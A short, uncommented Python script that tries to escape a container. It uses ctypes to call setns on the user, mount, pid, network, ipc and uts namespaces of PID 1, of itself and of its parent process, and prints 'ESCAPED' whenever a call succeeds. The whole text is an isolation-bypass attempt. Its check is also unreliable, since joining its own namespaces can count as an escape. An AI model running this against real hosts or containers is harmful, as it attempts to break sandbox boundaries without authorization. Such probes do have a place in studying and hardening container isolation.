import ctypes, os
libc = ctypes.CDLL(None)
for pid in ("1", "self", str(os.getppid())):
    for name in ("user", "mnt", "pid", "net", "ipc", "uts"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, 0) == 0:
            print("ESCAPED", pid, name)
